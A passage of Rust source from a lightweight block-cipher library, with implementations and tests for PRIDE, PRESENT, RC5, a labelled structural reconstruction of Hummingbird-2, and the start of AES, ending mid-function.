    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let mut x = u64::from_be_bytes(block.try_into().expect("checked"));
        x ^= self.whitening;
        for (i, rk) in self.round_keys.iter().enumerate() {
            x ^= rk;
            x = sub_nibbles(x, &SBOX);
            // The final round omits the linear layer, as in PRIDE.
            if i != ROUNDS - 1 {
                x = linear(x);
            }
        }
        x ^= self.whitening;
        block.copy_from_slice(&x.to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let inv = inv_sbox();
        let mut x = u64::from_be_bytes(block.try_into().expect("checked"));
        x ^= self.whitening;
        for (i, rk) in self.round_keys.iter().enumerate().rev() {
            if i != ROUNDS - 1 {
                x = inv_linear(x);
            }
            x = sub_nibbles(x, &inv);
            x ^= rk;
        }
        x ^= self.whitening;
        block.copy_from_slice(&x.to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "PRIDE",
            key_bits: &[128],
            block_bits: 64,
            structure: Structure::Spn,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Structural,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn linear_layer_is_invertible() {
        for x in [
            0u64,
            1,
            u64::MAX,
            0x0123_4567_89AB_CDEF,
            0xA5A5_A5A5_5A5A_5A5A,
        ] {
            assert_eq!(inv_linear(linear(x)), x);
        }
    }

    #[test]
    fn sbox_is_a_permutation() {
        let mut seen = [false; 16];
        for &s in &SBOX {
            assert!(!seen[s as usize]);
            seen[s as usize] = true;
        }
    }

    #[test]
    fn properties() {
        let pride = Pride::new(&[0x37u8; 16]).unwrap();
        proptests::roundtrip(&pride);
        proptests::avalanche(&pride);
        proptests::key_sensitivity(|k| Box::new(Pride::new(&k[..16]).unwrap()));
    }
}
