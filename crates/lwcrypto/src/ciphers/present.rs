//! PRESENT: 64-bit block SPN with 31 rounds and an 80- or 128-bit key.
//!
//! Fidelity:
//! * [`Present80`][]: [`SpecFidelity::Exact`](crate::SpecFidelity::Exact) —
//!   verified against the all-zero known-answer vector from the CHES 2007
//!   paper.
//! * [`Present128`][]: [`SpecFidelity::Faithful`](crate::SpecFidelity::Faithful)
//!   — same data path, 128-bit key schedule per the paper's appendix; no
//!   official vector was available offline.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const SBOX: [u8; 16] = [
    0xC, 0x5, 0x6, 0xB, 0x9, 0x0, 0xA, 0xD, 0x3, 0xE, 0xF, 0x8, 0x4, 0x7, 0x1, 0x2,
];

const ROUNDS: usize = 31;

fn inv_sbox() -> [u8; 16] {
    let mut inv = [0u8; 16];
    for (i, &s) in SBOX.iter().enumerate() {
        inv[s as usize] = i as u8;
    }
    inv
}

/// The pLayer: bit i moves to position (16*i) mod 63, bit 63 is fixed.
fn p_layer(state: u64) -> u64 {
    let mut out = 0u64;
    for i in 0..63 {
        out |= ((state >> i) & 1) << ((16 * i) % 63);
    }
    out | (state & (1 << 63))
}

fn inv_p_layer(state: u64) -> u64 {
    let mut out = 0u64;
    for i in 0..63 {
        out |= ((state >> ((16 * i) % 63)) & 1) << i;
    }
    out | (state & (1 << 63))
}

fn sub_layer(state: u64, sbox: &[u8; 16]) -> u64 {
    let mut out = 0u64;
    for nib in 0..16 {
        let v = ((state >> (4 * nib)) & 0xF) as usize;
        out |= (sbox[v] as u64) << (4 * nib);
    }
    out
}

fn encrypt(state: u64, round_keys: &[u64; ROUNDS + 1]) -> u64 {
    let mut s = state;
    for rk in round_keys.iter().take(ROUNDS) {
        s ^= rk;
        s = sub_layer(s, &SBOX);
        s = p_layer(s);
    }
    s ^ round_keys[ROUNDS]
}

fn decrypt(state: u64, round_keys: &[u64; ROUNDS + 1]) -> u64 {
    let inv = inv_sbox();
    let mut s = state ^ round_keys[ROUNDS];
    for rk in round_keys.iter().take(ROUNDS).rev() {
        s = inv_p_layer(s);
        s = sub_layer(s, &inv);
        s ^= rk;
    }
    s
}

/// PRESENT with an 80-bit key.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Present80};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let cipher = Present80::new(&[0u8; 10])?;
/// let mut block = [0u8; 8];
/// cipher.encrypt_block(&mut block)?;
/// assert_eq!(u64::from_be_bytes(block), 0x5579_C138_7B22_8445);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Present80 {
    round_keys: [u64; ROUNDS + 1],
}

impl Present80 {
    /// Creates a PRESENT-80 instance from a 10-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 10 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("PRESENT-80", &[10], key)?;
        // 80-bit key register, kept as (hi: u64 = bits 79..16, lo: u16 = bits 15..0).
        let mut hi = u64::from_be_bytes(key[0..8].try_into().expect("8 bytes"));
        let mut lo = u16::from_be_bytes(key[8..10].try_into().expect("2 bytes"));
        let mut round_keys = [0u64; ROUNDS + 1];
        for (round, rk) in round_keys.iter_mut().enumerate() {
            *rk = hi; // round key = leftmost 64 bits
                      // Rotate the 80-bit register left by 61.
            let reg = ((hi as u128) << 16) | lo as u128;
            let rotated = ((reg << 61) | (reg >> 19)) & ((1u128 << 80) - 1);
            hi = (rotated >> 16) as u64;
            lo = (rotated & 0xFFFF) as u16;
            // S-box on the top nibble.
            let top = ((hi >> 60) & 0xF) as usize;
            hi = (hi & !(0xFu64 << 60)) | ((SBOX[top] as u64) << 60);
            // XOR round counter into bits 19..15 of the register.
            let rc = (round + 1) as u128;
            let reg = (((hi as u128) << 16) | lo as u128) ^ (rc << 15);
            hi = (reg >> 16) as u64;
            lo = (reg & 0xFFFF) as u16;
        }
        Ok(Present80 { round_keys })
    }
}

impl BlockCipher for Present80 {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let v = u64::from_be_bytes(block.try_into().expect("checked"));
        block.copy_from_slice(&encrypt(v, &self.round_keys).to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let v = u64::from_be_bytes(block.try_into().expect("checked"));
        block.copy_from_slice(&decrypt(v, &self.round_keys).to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "PRESENT",
            key_bits: &[80, 128],
            block_bits: 64,
            structure: Structure::Spn,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Exact,
        }
    }
}

/// PRESENT with a 128-bit key.
#[derive(Debug, Clone)]
pub struct Present128 {
    round_keys: [u64; ROUNDS + 1],
}

impl Present128 {
    /// Creates a PRESENT-128 instance from a 16-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 16 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("PRESENT-128", &[16], key)?;
        let mut reg = u128::from_be_bytes(key.try_into().expect("16 bytes"));
        let mut round_keys = [0u64; ROUNDS + 1];
        for (round, rk) in round_keys.iter_mut().enumerate() {
            *rk = (reg >> 64) as u64;
            // Rotate left by 61.
            reg = reg.rotate_left(61);
            // S-box on the top two nibbles.
            let n1 = ((reg >> 124) & 0xF) as usize;
            let n2 = ((reg >> 120) & 0xF) as usize;
            reg = (reg & !(0xFFu128 << 120))
                | ((SBOX[n1] as u128) << 124)
                | ((SBOX[n2] as u128) << 120);
            // XOR round counter into bits 66..62.
            reg ^= ((round + 1) as u128) << 62;
        }
        Ok(Present128 { round_keys })
    }
}

impl BlockCipher for Present128 {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let v = u64::from_be_bytes(block.try_into().expect("checked"));
        block.copy_from_slice(&encrypt(v, &self.round_keys).to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let v = u64::from_be_bytes(block.try_into().expect("checked"));
        block.copy_from_slice(&decrypt(v, &self.round_keys).to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "PRESENT",
            key_bits: &[80, 128],
            block_bits: 64,
            structure: Structure::Spn,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Faithful,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn ches2007_all_zero_vector() {
        let cipher = Present80::new(&[0u8; 10]).unwrap();
        let mut block = [0u8; 8];
        cipher.encrypt_block(&mut block).unwrap();
        assert_eq!(u64::from_be_bytes(block), 0x5579_C138_7B22_8445);
        cipher.decrypt_block(&mut block).unwrap();
        assert_eq!(block, [0u8; 8]);
    }

    #[test]
    fn p_layer_is_a_permutation() {
        // Applying the inverse after the forward layer must be identity on
        // a basis of single-bit states.
        for bit in 0..64 {
            let v = 1u64 << bit;
            assert_eq!(inv_p_layer(p_layer(v)), v);
        }
    }

    #[test]
    fn key_variants_disagree() {
        let p80 = Present80::new(&[1u8; 10]).unwrap();
        let p128 = Present128::new(&[1u8; 16]).unwrap();
        let mut a = [7u8; 8];
        let mut b = [7u8; 8];
        p80.encrypt_block(&mut a).unwrap();
        p128.encrypt_block(&mut b).unwrap();
        assert_ne!(a, b);
    }

    #[test]
    fn properties() {
        let p80 = Present80::new(&[0xA5u8; 10]).unwrap();
        proptests::roundtrip(&p80);
        proptests::avalanche(&p80);
        proptests::key_sensitivity(|k| Box::new(Present80::new(&k[..10]).unwrap()));

        let p128 = Present128::new(&[0xA5u8; 16]).unwrap();
        proptests::roundtrip(&p128);
        proptests::avalanche(&p128);
        proptests::key_sensitivity(|k| Box::new(Present128::new(&k[..16]).unwrap()));
    }
}
