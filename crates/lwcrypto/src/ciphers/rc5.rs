//! RC5-32/r/b: 64-bit block, variable rounds (1–255) and key (0–255 bytes).
//!
//! Fidelity: [`SpecFidelity::Exact`](crate::SpecFidelity::Exact) — verified
//! against the RC5-32/12/16 all-zero vector from Rivest's paper.

use crate::traits::check_block;
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const P32: u32 = 0xB7E1_5163;
const Q32: u32 = 0x9E37_79B9;

/// The RC5 block cipher with 32-bit words.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Rc5};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let rc5 = Rc5::new(&[0u8; 16], 12)?;
/// let mut block = [0u8; 8];
/// rc5.encrypt_block(&mut block)?;
/// rc5.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 8]);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Rc5 {
    s: Vec<u32>,
    rounds: usize,
    key_bits: usize,
}

impl Rc5 {
    /// Creates an RC5-32/`rounds`/`key.len()` instance.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidParameter`] if `rounds` is 0 or greater
    /// than 255, or [`CryptoError::InvalidKeyLength`] if the key exceeds 255
    /// bytes.
    pub fn new(key: &[u8], rounds: usize) -> Result<Self, CryptoError> {
        if rounds == 0 || rounds > 255 {
            return Err(CryptoError::InvalidParameter(format!(
                "RC5 rounds must be in 1..=255, got {rounds}"
            )));
        }
        // RC5 admits any b in 0..=255; we additionally require b >= 1 so
        // every registry cipher actually keys itself.
        if key.is_empty() || key.len() > 255 {
            return Err(CryptoError::InvalidParameter(format!(
                "RC5 key must be 1..=255 bytes, got {}",
                key.len()
            )));
        }

        // Key expansion per the RC5 paper.
        let b = key.len();
        let c = b.div_ceil(4);
        let mut l = vec![0u32; c];
        for i in (0..b).rev() {
            l[i / 4] = (l[i / 4] << 8).wrapping_add(key[i] as u32);
        }

        let t = 2 * (rounds + 1);
        let mut s = vec![0u32; t];
        s[0] = P32;
        for i in 1..t {
            s[i] = s[i - 1].wrapping_add(Q32);
        }

        let (mut a, mut b_acc) = (0u32, 0u32);
        let (mut i, mut j) = (0usize, 0usize);
        for _ in 0..3 * t.max(c) {
            a = s[i].wrapping_add(a).wrapping_add(b_acc).rotate_left(3);
            s[i] = a;
            let ab = a.wrapping_add(b_acc);
            b_acc = l[j].wrapping_add(ab).rotate_left(ab & 31);
            l[j] = b_acc;
            i = (i + 1) % t;
            j = (j + 1) % c;
        }

        Ok(Rc5 {
            s,
            rounds,
            key_bits: key.len() * 8,
        })
    }

    /// Key size in bits this instance was constructed with.
    pub fn key_bits(&self) -> usize {
        self.key_bits
    }
}

impl BlockCipher for Rc5 {
    fn block_size(&self) -> usize {
        8
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let mut a = u32::from_le_bytes(block[0..4].try_into().expect("4 bytes"));
        let mut b = u32::from_le_bytes(block[4..8].try_into().expect("4 bytes"));
        a = a.wrapping_add(self.s[0]);
        b = b.wrapping_add(self.s[1]);
        for i in 1..=self.rounds {
            a = (a ^ b).rotate_left(b & 31).wrapping_add(self.s[2 * i]);
            b = (b ^ a).rotate_left(a & 31).wrapping_add(self.s[2 * i + 1]);
        }
        block[0..4].copy_from_slice(&a.to_le_bytes());
        block[4..8].copy_from_slice(&b.to_le_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 8)?;
        let mut a = u32::from_le_bytes(block[0..4].try_into().expect("4 bytes"));
        let mut b = u32::from_le_bytes(block[4..8].try_into().expect("4 bytes"));
        for i in (1..=self.rounds).rev() {
            b = b.wrapping_sub(self.s[2 * i + 1]).rotate_right(a & 31) ^ a;
            a = a.wrapping_sub(self.s[2 * i]).rotate_right(b & 31) ^ b;
        }
        b = b.wrapping_sub(self.s[1]);
        a = a.wrapping_sub(self.s[0]);
        block[0..4].copy_from_slice(&a.to_le_bytes());
        block[4..8].copy_from_slice(&b.to_le_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "RC5",
            key_bits: &[128],
            block_bits: 64,
            structure: Structure::Feistel,
            rounds: self.rounds,
            fidelity: SpecFidelity::Exact,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn rivest_vector_rc5_32_12_16() {
        // RC5-32/12/16, all-zero key and plaintext. Ciphertext words
        // A = EEDBA521, B = 6D8F4B15 (little-endian byte layout).
        let rc5 = Rc5::new(&[0u8; 16], 12).unwrap();
        let mut block = [0u8; 8];
        rc5.encrypt_block(&mut block).unwrap();
        let a = u32::from_le_bytes(block[0..4].try_into().unwrap());
        let b = u32::from_le_bytes(block[4..8].try_into().unwrap());
        assert_eq!(a, 0xEEDB_A521);
        assert_eq!(b, 0x6D8F_4B15);
        rc5.decrypt_block(&mut block).unwrap();
        assert_eq!(block, [0u8; 8]);
    }

    #[test]
    fn round_count_changes_output() {
        let k = [9u8; 16];
        let r12 = Rc5::new(&k, 12).unwrap();
        let r20 = Rc5::new(&k, 20).unwrap();
        let mut a = [1u8; 8];
        let mut b = [1u8; 8];
        r12.encrypt_block(&mut a).unwrap();
        r20.encrypt_block(&mut b).unwrap();
        assert_ne!(a, b);
    }

    #[test]
    fn rejects_invalid_parameters() {
        assert!(Rc5::new(&[0u8; 16], 0).is_err());
        assert!(Rc5::new(&[0u8; 16], 256).is_err());
        assert!(Rc5::new(&[], 12).is_err());
    }

    #[test]
    fn variable_key_lengths_work() {
        for len in [1usize, 5, 16, 32, 64] {
            let rc5 = Rc5::new(&vec![0x77u8; len], 12).unwrap();
            proptests::roundtrip(&rc5);
        }
    }

    #[test]
    fn properties() {
        let rc5 = Rc5::new(&[0x42u8; 16], 12).unwrap();
        proptests::roundtrip(&rc5);
        proptests::avalanche(&rc5);
        proptests::key_sensitivity(|k| Box::new(Rc5::new(&k[..16], 12).unwrap()));
    }
}
