//! Hummingbird-2: ultra-lightweight cipher with a 16-bit block and a
//! 256-bit key, designed for RFID-class devices.
//!
//! Fidelity: [`SpecFidelity::Structural`](crate::SpecFidelity::Structural) —
//! the published Hummingbird-2 is a stateful hybrid cipher whose four 4-bit
//! S-boxes and initialization protocol were not reliably available offline.
//! Following the paper's Table III row (16-bit block, 256-bit key, 4-round
//! SPN core), this reconstruction implements the cipher's keyed 16-bit
//! permutation: four SPN rounds, each applying four 4-bit S-boxes and a
//! 16-bit linear mixing layer, with eight 16-bit subkeys (two per round)
//! drawn from the 256-bit key, plus pre-/post-whitening. The tiny block
//! makes it suitable only for the short tag/identifier fields the paper's
//! RFID rows in Table I motivate.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

const ROUNDS: usize = 4;

/// Four distinct 4-bit S-boxes (Serpent-style set standing in for the
/// published ones).
const SBOXES: [[u8; 16]; 4] = [
    [
        0x3, 0x8, 0xF, 0x1, 0xA, 0x6, 0x5, 0xB, 0xE, 0xD, 0x4, 0x2, 0x7, 0x0, 0x9, 0xC,
    ],
    [
        0xF, 0xC, 0x2, 0x7, 0x9, 0x0, 0x5, 0xA, 0x1, 0xB, 0xE, 0x8, 0x6, 0xD, 0x3, 0x4,
    ],
    [
        0x8, 0x6, 0x7, 0x9, 0x3, 0xC, 0xA, 0xF, 0xD, 0x1, 0xE, 0x4, 0x0, 0xB, 0x5, 0x2,
    ],
    [
        0x0, 0xF, 0xB, 0x8, 0xC, 0x9, 0x6, 0x3, 0xD, 0x1, 0x2, 0x4, 0xA, 0x7, 0x5, 0xE,
    ],
];

fn inv_sboxes() -> [[u8; 16]; 4] {
    let mut inv = [[0u8; 16]; 4];
    for (b, sbox) in SBOXES.iter().enumerate() {
        for (i, &s) in sbox.iter().enumerate() {
            inv[b][s as usize] = i as u8;
        }
    }
    inv
}

/// 16-bit linear mixing layer: x ⊕ (x <<< 6) ⊕ (x <<< 10), an invertible
/// linear map over GF(2)¹⁶ (odd number of rotation terms).
fn mix(x: u16) -> u16 {
    x ^ x.rotate_left(6) ^ x.rotate_left(10)
}

/// Inverse of [`mix`], computed by matrix inversion over GF(2) at key
/// setup (cached in the cipher instance).
fn build_inv_mix() -> [u16; 16] {
    // Represent mix as 16 basis images, then invert via Gauss-Jordan.
    let mut basis = [0u16; 16];
    for (i, b) in basis.iter_mut().enumerate() {
        *b = mix(1u16 << i);
    }
    // rows[i] = image bits; solve for inverse basis.
    let mut a = basis;
    let mut inv = [0u16; 16];
    for (i, v) in inv.iter_mut().enumerate() {
        *v = 1u16 << i;
    }
    for col in 0..16 {
        // Find pivot with bit `col` set.
        let pivot = (col..16)
            .find(|&r| a[r] & (1 << col) != 0)
            .expect("mix must be invertible");
        a.swap(col, pivot);
        inv.swap(col, pivot);
        for r in 0..16 {
            if r != col && a[r] & (1 << col) != 0 {
                a[r] ^= a[col];
                inv[r] ^= inv[col];
            }
        }
    }
    // inv now maps image-basis to preimage: inv_mix(y) = xor of inv[i] over set bits.
    inv
}

fn apply_linear(table: &[u16; 16], x: u16) -> u16 {
    let mut out = 0u16;
    for (i, &t) in table.iter().enumerate() {
        if x & (1 << i) != 0 {
            out ^= t;
        }
    }
    out
}

/// The Hummingbird-2 16-bit keyed permutation (structural reconstruction).
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Hummingbird2};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let hb2 = Hummingbird2::new(&[0u8; 32])?;
/// let mut block = [0xAB, 0xCD];
/// hb2.encrypt_block(&mut block)?;
/// hb2.decrypt_block(&mut block)?;
/// assert_eq!(block, [0xAB, 0xCD]);
/// # Ok(())
/// # }
/// ```
#[derive(Debug, Clone)]
pub struct Hummingbird2 {
    subkeys: [u16; 2 * ROUNDS + 2],
    inv_mix: [u16; 16],
}

impl Hummingbird2 {
    /// Creates a Hummingbird-2 instance from a 32-byte (256-bit) key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] unless the key is 32 bytes.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("Hummingbird-2", &[32], key)?;
        let words: Vec<u16> = key
            .chunks(2)
            .map(|c| u16::from_be_bytes(c.try_into().expect("2 bytes")))
            .collect();
        // 10 subkeys from 16 key words: fold the tail into the head so every
        // key byte influences the schedule.
        let mut subkeys = [0u16; 2 * ROUNDS + 2];
        for (i, sk) in subkeys.iter_mut().enumerate() {
            *sk = words[i] ^ words[(i + 7) % 16].rotate_left(i as u32 + 1);
        }
        Ok(Hummingbird2 {
            subkeys,
            inv_mix: build_inv_mix(),
        })
    }
}

impl BlockCipher for Hummingbird2 {
    fn block_size(&self) -> usize {
        2
    }

    fn encrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 2)?;
        let mut x = u16::from_be_bytes(block.try_into().expect("checked"));
        x ^= self.subkeys[0];
        for r in 0..ROUNDS {
            x = x.wrapping_add(self.subkeys[2 * r + 1]);
            let mut sub = 0u16;
            #[allow(clippy::needless_range_loop)]
            for nib in 0..4 {
                let v = ((x >> (4 * nib)) & 0xF) as usize;
                sub |= (SBOXES[nib][v] as u16) << (4 * nib);
            }
            x = mix(sub) ^ self.subkeys[2 * r + 2];
        }
        x ^= self.subkeys[2 * ROUNDS + 1];
        block.copy_from_slice(&x.to_be_bytes());
        Ok(())
    }

    fn decrypt_block(&self, block: &mut [u8]) -> Result<(), CryptoError> {
        check_block(block, 2)?;
        let inv = inv_sboxes();
        let mut x = u16::from_be_bytes(block.try_into().expect("checked"));
        x ^= self.subkeys[2 * ROUNDS + 1];
        for r in (0..ROUNDS).rev() {
            x ^= self.subkeys[2 * r + 2];
            x = apply_linear(&self.inv_mix, x);
            let mut sub = 0u16;
            #[allow(clippy::needless_range_loop)]
            for nib in 0..4 {
                let v = ((x >> (4 * nib)) & 0xF) as usize;
                sub |= (inv[nib][v] as u16) << (4 * nib);
            }
            x = sub.wrapping_sub(self.subkeys[2 * r + 1]);
        }
        x ^= self.subkeys[0];
        block.copy_from_slice(&x.to_be_bytes());
        Ok(())
    }

    fn info(&self) -> CipherInfo {
        CipherInfo {
            name: "Hummingbird-2",
            key_bits: &[256],
            block_bits: 16,
            structure: Structure::Spn,
            rounds: ROUNDS,
            fidelity: SpecFidelity::Structural,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::ciphers::proptests;

    #[test]
    fn mix_is_invertible() {
        let inv = build_inv_mix();
        for x in [0u16, 1, 0xFFFF, 0x1234, 0xA5A5, 0x8000] {
            assert_eq!(apply_linear(&inv, mix(x)), x);
        }
    }

    #[test]
    fn sboxes_are_permutations() {
        for sbox in &SBOXES {
            let mut seen = [false; 16];
            for &s in sbox {
                assert!(!seen[s as usize]);
                seen[s as usize] = true;
            }
        }
    }

    #[test]
    fn exhaustive_roundtrip_over_the_full_16_bit_domain() {
        // A 16-bit block permits exhaustive verification that encryption is
        // a permutation and decryption its exact inverse.
        let hb2 = Hummingbird2::new(&[0x42u8; 32]).unwrap();
        let mut seen = vec![false; 1 << 16];
        for v in 0..=u16::MAX {
            let mut block = v.to_be_bytes();
            hb2.encrypt_block(&mut block).unwrap();
            let ct = u16::from_be_bytes(block);
            assert!(!seen[ct as usize], "not a permutation at {v}");
            seen[ct as usize] = true;
            hb2.decrypt_block(&mut block).unwrap();
            assert_eq!(u16::from_be_bytes(block), v);
        }
    }

    #[test]
    fn properties() {
        let hb2 = Hummingbird2::new(&[0x13u8; 32]).unwrap();
        proptests::roundtrip(&hb2);
        proptests::avalanche(&hb2);
        proptests::key_sensitivity(|k| Box::new(Hummingbird2::new(&k[..32]).unwrap()));
    }
}
