//! AES (Rijndael) with 128/192/256-bit keys.
//!
//! Fidelity: [`SpecFidelity::Exact`](crate::SpecFidelity::Exact) — the S-box
//! is *derived* (multiplicative inverse in GF(2⁸) followed by the FIPS-197
//! affine map) rather than transcribed, and the implementation is verified
//! against the FIPS-197 Appendix C known-answer vectors.

use crate::traits::{check_block, check_key};
use crate::{BlockCipher, CipherInfo, CryptoError, SpecFidelity, Structure};

/// Multiply two elements of GF(2^8) modulo the AES polynomial x^8+x^4+x^3+x+1.
fn gf_mul(mut a: u8, mut b: u8) -> u8 {
    let mut acc = 0u8;
    while b != 0 {
        if b & 1 != 0 {
            acc ^= a;
        }
        let hi = a & 0x80;
        a <<= 1;
        if hi != 0 {
            a ^= 0x1B;
        }
        b >>= 1;
    }
    acc
}

/// Multiplicative inverse in GF(2^8); 0 maps to 0 (a^254 = a^-1).
fn gf_inv(a: u8) -> u8 {
    // a^254 by square-and-multiply over the 8 exponent bits of 254.
    let mut result = 1u8;
    let mut base = a;
    let mut exp = 254u32;
    while exp > 0 {
        if exp & 1 == 1 {
            result = gf_mul(result, base);
        }
        base = gf_mul(base, base);
        exp >>= 1;
    }
    result
}

fn build_sboxes() -> ([u8; 256], [u8; 256]) {
    let mut sbox = [0u8; 256];
    let mut inv = [0u8; 256];
    for x in 0..=255u8 {
        let i = gf_inv(x);
        let s =
            i ^ i.rotate_left(1) ^ i.rotate_left(2) ^ i.rotate_left(3) ^ i.rotate_left(4) ^ 0x63;
        sbox[x as usize] = s;
        inv[s as usize] = x;
    }
    (sbox, inv)
}

/// The AES block cipher.
///
/// # Example
///
/// ```
/// use xlf_lwcrypto::{BlockCipher, ciphers::Aes};
///
/// # fn main() -> Result<(), xlf_lwcrypto::CryptoError> {
/// let aes = Aes::new(&[0u8; 16])?;
/// let mut block = [0u8; 16];
/// aes.encrypt_block(&mut block)?;
/// aes.decrypt_block(&mut block)?;
/// assert_eq!(block, [0u8; 16]);
/// # Ok(())
/// # }
/// ```
#[derive(Clone)]
pub struct Aes {
    round_keys: Vec<[u8; 16]>,
    rounds: usize,
    key_bits: usize,
    sbox: [u8; 256],
    inv_sbox: [u8; 256],
}

impl std::fmt::Debug for Aes {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Aes")
            .field("key_bits", &self.key_bits)
            .field("rounds", &self.rounds)
            .finish_non_exhaustive()
    }
}

impl Aes {
    /// Creates an AES instance from a 16-, 24-, or 32-byte key.
    ///
    /// # Errors
    ///
    /// Returns [`CryptoError::InvalidKeyLength`] for any other key length.
    pub fn new(key: &[u8]) -> Result<Self, CryptoError> {
        check_key("AES", &[16, 24, 32], key)?;
        let (sbox, inv_sbox) = build_sboxes();
        let nk = key.len() / 4;
        let rounds = nk + 6;
        let total_words = 4 * (rounds + 1);

        let mut w: Vec<[u8; 4]> = Vec::with_capacity(total_words);
        for chunk in key.chunks(4) {
            w.push([chunk[0], chunk[1], chunk[2], chunk[3]]);
        }
        let mut rcon = 1u8;
        for i in nk..total_words {
            let mut temp = w[i - 1];
            if i % nk == 0 {
                temp = [
                    sbox[temp[1] as usize] ^ rcon,
                    sbox[temp[2] as usize],
                    sbox[temp[3] as usize],
                    sbox[temp[0] as usize],
                ];
                rcon = gf_mul(rcon, 2);
            } else if nk > 6 && i % nk == 4 {
                temp = [
                    sbox[temp[0] as usize],
                    sbox[temp[1] as usize],
                    sbox[temp[2] as usize],
                    sbox[temp[3] as usize],
                ];
            }
            let prev = w[i - nk];
            w.push([
                prev[0] ^ temp[0],
                prev[1] ^ temp[1],
                prev[2] ^ temp[2],
                prev[3] ^ temp[3],
            ]);
        }

        let mut round_keys = Vec::with_capacity(rounds + 1);
        for r in 0..=rounds {
            let mut rk = [0u8; 16];
            for c in 0..4 {
                rk[4 * c..4 * c + 4].copy_from_slice(&w[4 * r + c]);
            }
            round_keys.push(rk);
        }

        Ok(Aes {
            round_keys,
            rounds,
            key_bits: key.len() * 8,
            sbox,
            inv_sbox,
        })
    }

    fn add_round_key(state: &mut [u8; 16], rk: &[u8; 16]) {
        for (s, k) in state.iter_mut().zip(rk.iter()) {
            *s ^= k;
        }
    }

    fn sub_bytes(&self, state: &mut [u8; 16]) {
        for b in state.iter_mut() {
            *b = self.sbox[*b as usize];
        }
    }

    fn inv_sub_bytes(&self, state: &mut [u8; 16]) {
        for b in state.iter_mut() {
            *b = self.inv_sbox[*b as usize];
        }
    }

    /// State layout: state[4*c + r] is row r, column c (column-major, as in
    /// FIPS-197's byte ordering of the input block).
    fn shift_rows(state: &mut [u8; 16]) {
        let s = *state;
        for r in 1..4 {
            for c in 0..4 {
                state[4 * c + r] = s[4 * ((c + r) % 4) + r];
            }
        }
    }

    fn inv_shift_rows(state: &mut [u8; 16]) {
        let s = *state;
        for r in 1..4 {
            for c in 0..4 {
                state[4 * ((c + r) % 4) + r] = s[4 * c + r];
            }
        }
    }

    fn mix_columns(state: &mut [u8; 16]) {
        for c in 0..4 {
            let col = [
                state[4 * c],
                state[4 * c + 1],
                state[4 * c + 2],
                state[4 * c + 3],
            ];
            state[4 * c] = gf_mul(col[0], 2) ^ gf_mul(col[1], 3) ^ col[2] ^ col[3];
            state[4 * c + 1] = col[0] ^ gf_mul(col[1], 2) ^ gf_mul(col[2], 3) ^ col[3];
            state[4 * c + 2] = col[0] ^ col[1] ^ gf_mul(col[2], 2) ^ gf_mul(col[3], 3);
            state[4 * c + 3] = gf_mul(col[0], 3) ^ col[1] ^ col[2] ^ gf_mul(col[3], 2);
        }
    }

    fn inv_mix_columns(state: &mut [u8; 16]) {
        for c in 0..4 {
            let col = [
                state[4 * c],
                state[4 * c + 1],
                state[4 * c + 2],
                state[4 * c + 3],
            ];
